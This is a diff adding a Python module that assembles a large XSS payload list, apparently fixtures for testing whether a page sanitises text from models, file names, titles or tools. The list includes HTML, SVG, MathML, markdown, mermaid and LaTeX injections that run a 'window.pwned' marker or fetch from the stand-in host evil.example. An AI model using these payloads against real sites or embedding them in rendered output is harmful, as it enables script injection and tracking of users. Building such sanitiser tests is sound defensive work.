@@ -1,0 +1,125 @@
+"""What somebody might have a model, a file's name, a title or a tool say, so that a page does their will.
+
+Each one, if it works, sets `window.pwned` or asks another host for something.
+"""
+
+from __future__ import annotations
+
+from itertools import product
+
+_RUN = "window.pwned=1"
+_HOST = "//evil.example/x"
+
+_ELEMENTS = [
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT SRC={_HOST}></SCRIPT>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<script/x>{_RUN}</script>",
+    f"<script\n>{_RUN}</script\n>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src=x onerror='{_RUN}'//",
+    f"<IMG SRC=https:{_HOST}>",
+    f'<img """><script>{_RUN}</script>">',
+    f"<img srcset='https:{_HOST} 2x'>",
+    f"<picture><source srcset='https:{_HOST}'><img></picture>",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{_RUN}'><text x=20 y=20>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>#x'></use></svg>",
+    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></iframe></foreignObject></svg>",
+    f"<math><mtext><script>{_RUN}</script></mtext></math>",
+    f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
+    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
+    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
+    f"<iframe src='https:{_HOST}'></iframe>",
+    f"<object data='javascript:{_RUN}'></object>",
+    f"<object data='https:{_HOST}'></object>",
+    f"<embed src='https:{_HOST}'>",
+    f"<link rel=stylesheet href='https:{_HOST}'>",
+    f"<link rel=prefetch href='https:{_HOST}'>",
+    f"<style>@import 'https:{_HOST}';</style>",
+    f"<style>body{{background:url(https:{_HOST})}}</style>",
+    f"<div style='background:url(https:{_HOST})'>x</div>",
+    f"<div style='width:expression({_RUN})'>x</div>",
+    f"<base href='https:{_HOST}'>",
+    f"<meta http-equiv=refresh content='0;url=https:{_HOST}'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    f"<body onload={_RUN}>",
+    f"<body onpageshow={_RUN}>",
+    f"<body background='https:{_HOST}'>",
+    f"<video src='https:{_HOST}' autoplay></video>",
+    f"<video poster='https:{_HOST}'></video>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}>",
+    f"<audio src='https:{_HOST}' autoplay>",
+    f"<track src='https:{_HOST}' default>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<input type=image src='https:{_HOST}'>",
+    f"<select autofocus onfocus={_RUN}>",
+    f"<textarea autofocus onfocus={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    f"<marquee onstart={_RUN}>",
+    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
+    f"<isindex action='javascript:{_RUN}' type=submit>",
+    f"<button popovertarget=x>y</button><div id=x popover onbeforetoggle={_RUN}>z</div>",
+    f"<xss style='animation-name:spin' onanimationstart={_RUN}></xss>",
+    f"<xss tabindex=1 autofocus onfocus={_RUN}></xss>",
+    f"<template><script>{_RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+    f"<title></title><img src=x onerror={_RUN}>",
+    f"<textarea></textarea><img src=x onerror={_RUN}>",
+    f"<!--><img src=x onerror={_RUN}>-->",
+    f"<!-- --!><img src=x onerror={_RUN}>",
+    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
+    f"<?xml version='1.0'?><script>{_RUN}</script>",
+    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>x</a>",
+    f"<a href='https:{_HOST}' ping='https:{_HOST}'>x</a>",
+    f"<a id=violations></a><a id=violations name=push href='javascript:{_RUN}'>clobber</a>",
+    f"<form id=document><input name=body></form><img name=getElementById src=x onerror={_RUN}>",
+    f"<p id='composer' onmouseover={_RUN}>x</p>",
+    f"</code></pre><img src=x onerror={_RUN}>",
+    f'"><img src=x onerror={_RUN}>',
+    f"'-({_RUN})-'",
+    f"${{{_RUN}}}",
+    f"{{{{constructor.constructor('{_RUN}')()}}}}",
+]
+
+_ADDRESSES = [
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"java\tscript:{_RUN}",
+    f"java&#10;script:{_RUN}",
+    f"&#106;avascript:{_RUN}",
+    f"\x01javascript:{_RUN}",
+    f"vbscript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"data:image/svg+xml,<svg onload={_RUN}>",
+    f"blob:https:{_HOST}",
+    f"file://{_HOST}",
+    f"https:{_HOST}",
+    _HOST,
+]
+
+_MARKDOWN = ["[x]({})", "![x]({})", "[x]: {}\n\n[x]", "<{}>", "[![x]({0})]({0})"]
+
+_FENCED = [
+    f"```html\n<script>{_RUN}</script>\n```",
+    f'```mermaid\ngraph TD\n  A["<img src=x onerror={_RUN}>"] --> B\n```',
+    f'```mermaid\ngraph TD\n  A --> B\n  click A href "javascript:{_RUN}"\n```',
+    f"```mermaid\n%%{{init: {{'themeCSS': '@import url(https:{_HOST})'}}}}%%\ngraph TD\n  A --> B\n```",
+    f"```mermaid\ngraph TD\n  A --> B\n  style A fill:url(https:{_HOST})\n```",
+    f'```"onmouseover={_RUN}\ncode\n```',
+    f"$\\href{{javascript:{_RUN}}}{{x}}$",
+    f"$\\url{{javascript:{_RUN}}}$",
+    f"$$\\htmlStyle{{background:url(https:{_HOST})}}{{x}}$$",
+    f"$$\\includegraphics{{https:{_HOST}}}$$",
+    "$$" + r"\def\a{\a\a}\a" + "$$",
+    f"$$</span><img src=x onerror={_RUN}>$$",
+    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
+    f"[^1]\n\n[^1]: <img src=x onerror={_RUN}>",
+    f"- [ ] <img src=x onerror={_RUN}>",
+]
+
+PAYLOADS = [*_ELEMENTS, *(form.format(address) for form, address in product(_MARKDOWN, _ADDRESSES)), *_FENCED]
